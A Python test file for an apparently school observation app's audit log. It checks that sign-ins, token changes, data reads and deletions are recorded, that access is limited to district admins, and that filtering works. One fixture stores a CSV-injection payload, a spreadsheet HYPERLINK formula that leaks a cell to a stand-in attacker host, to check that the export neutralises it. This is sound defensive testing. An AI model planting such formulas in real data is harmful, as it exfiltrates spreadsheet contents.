"""What the app records, and the admins' page and export."""

from __future__ import annotations

import csv
import io

from observe.audit import operations
from observe.core.permissions import Role
from observe.extensions import db
from tests.conftest import PASSWORD


def test_sign_ins_and_failures_are_recorded_with_the_address(client, create_user, events):
    user = create_user(email="ann@example.org")
    response = client.post_form(
        "/sign-in",
        {"email": "ann@example.org", "password": "wrong password!"},
        environ_base={"REMOTE_ADDR": "203.0.113.7"},
    )
    assert response.status_code == 401
    client.post_form(
        "/sign-in",
        {"email": "ann@example.org", "password": PASSWORD},
        environ_base={"REMOTE_ADDR": "203.0.113.8"},
    )
    client.post_form("/sign-out", {}, token_from="/")
    failed, signed_in, signed_out = events()[1:]  # after user.created
    assert (failed.action, failed.actor_email, failed.actor_id) == (
        "sign_in.failed",
        "ann@example.org",
        None,
    )
    assert failed.address == "203.0.113.7"
    assert (signed_in.action, signed_in.actor_id, signed_in.address) == (
        "sign_in",
        user.id,
        "203.0.113.8",
    )
    assert signed_out.action == "sign_out" and signed_out.actor_id == user.id


def test_token_changes_are_recorded(client, sign_in, create_user, events):
    user = create_user()
    sign_in(user)
    client.post_form(
        "/settings/tokens", {"name": "R script", "password": PASSWORD}, token_from="/settings"
    )
    [created] = events("token.created")
    client.post_form(
        f"/settings/tokens/{created.object_id}/revoke", {"confirmed": "yes"}, token_from="/settings"
    )
    [revoked] = events("token.revoked")
    assert created.actor_id == revoked.actor_id == user.id
    assert revoked.detail == {"user": user.email, "name": "R script"}


def test_reads_of_teacher_data_are_recorded(client, sign_in, bearer, push_as, team, events):
    walkthrough = push_as(team.observers[0], {"notes": "Lively"})
    sign_in(team.facilitator)
    assert client.get(f"/walkthroughs/{walkthrough}/feedback").status_code == 200
    assert client.get(f"/walkthroughs/{walkthrough}/feedback.pdf").status_code == 200
    assert client.get("/reports/export/download?format=csv").status_code == 200
    api = client.get(f"/api/v1/observations/{walkthrough}", headers=bearer(team.facilitator))
    assert api.status_code == 200
    # A refused read is not a read.
    assert client.get("/walkthroughs/00000000-0000-0000-0000-000000000000/feedback").status_code
    reads = [
        (e.action, e.object_id, e.actor_id)
        for e in events()
        if e.action.startswith(("walkthrough.", "ratings."))
    ]
    me = team.facilitator.id
    assert reads == [
        ("walkthrough.feedback_viewed", walkthrough, me),
        ("walkthrough.feedback_printed", walkthrough, me),
        ("ratings.exported", "", me),
        ("walkthrough.history_viewed", walkthrough, me),
    ]
    assert events("walkthrough.history_viewed")[0].detail == {"via": "api token"}


def test_deleting_a_walkthrough_is_recorded_and_undone_with_it(
    client, bearer, push_as, team, events
):
    walkthrough = push_as(team.observers[0], {})
    response = client.delete(f"/api/v1/observations/{walkthrough}", headers=bearer(team.outsider))
    assert response.status_code in (403, 404)
    assert events("walkthrough.deleted") == []  # refused: rolled back, nothing recorded
    response = client.delete(
        f"/api/v1/observations/{walkthrough}", headers=bearer(team.observers[0])
    )
    assert response.status_code == 200
    [deleted] = events("walkthrough.deleted")
    assert (deleted.object_type, deleted.object_id) == ("observation", walkthrough)


def _events_for_the_page():
    for n in range(60):
        operations.record("sign_in", actor_email=f"user{n}@example.org", address=f"198.51.100.{n}")
    operations.record(
        "roster.imported",
        actor_email='=HYPERLINK("http://evil.example/?"&A2,"x")',
        detail={"note": "@SUM(1)"},
    )
    db.session.commit()


def test_only_district_admins_see_the_log(client, sign_in, create_user, create_school):
    school = create_school()
    sign_in(create_user(Role.SCHOOL_LEADER, schools=[school]))
    assert client.get("/admin/audit").status_code == 403
    assert client.get("/admin/audit/export.csv").status_code == 403
    client.post_form("/sign-out", {}, token_from="/")
    assert client.get("/admin/audit").status_code == 302  # to the sign-in page


def test_the_page_searches_newest_first_a_page_at_a_time(client, sign_in, create_user):
    admin = create_user(Role.DISTRICT_ADMIN, email="admin@example.org")
    _events_for_the_page()
    sign_in(admin)
    first = client.get("/admin/audit").get_data(as_text=True)
    assert first.index("roster.imported") < first.index("user59@example.org")
    assert "user10@example.org" not in first and "Older →" in first
    second = client.get("/admin/audit?page=2").get_data(as_text=True)
    assert "user10@example.org" in second and "Older →" not in second
    only = client.get("/admin/audit?who=USER7&action=sign_in").get_data(as_text=True)
    assert "user7@example.org" in only and "user8@example.org" not in only
    assert "roster.imported</code>" not in only
    by_object = client.get("/admin/audit?type=observation&id=abc").get_data(as_text=True)
    assert "No event matches" in by_object
    assert "type=observation&amp;id=abc" in by_object  # the download keeps every filter
    prefix = client.get("/admin/audit?action=roster").get_data(as_text=True)
    assert "roster.imported</code>" in prefix and "user1@example.org" not in prefix
    assert "198.51.100.59" not in client.get("/admin/audit?to=2000-01-01").get_data(as_text=True)


def test_bad_filters_are_named(client, sign_in, create_user):
    sign_in(create_user(Role.DISTRICT_ADMIN))
    response = client.get("/admin/audit?from=2026-13-01&page=²")
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "must be a date written YYYY-MM-DD" in page and "page" in page
    assert client.get("/admin/audit?from=2026-12-02&to=2026-12-01").status_code == 422
    assert client.get("/admin/audit/export.csv?from=yesterday").status_code == 422


def test_the_export_neutralises_formulas_and_is_recorded(client, sign_in, create_user, events):
    admin = create_user(Role.DISTRICT_ADMIN)
    _events_for_the_page()
    sign_in(admin)
    response = client.get("/admin/audit/export.csv?action=roster.imported")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "private, no-store"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 1
    assert rows[0]["actor_email"] == '\'=HYPERLINK("http://evil.example/?"&A2,"x")'
    assert rows[0]["detail"] == '{"note": "@SUM(1)"}'  # begins with {, so left as it is
    [exported] = events("audit.exported")
    assert exported.actor_id == admin.id and exported.detail == {
        "filters": {"action": "roster.imported"}
    }
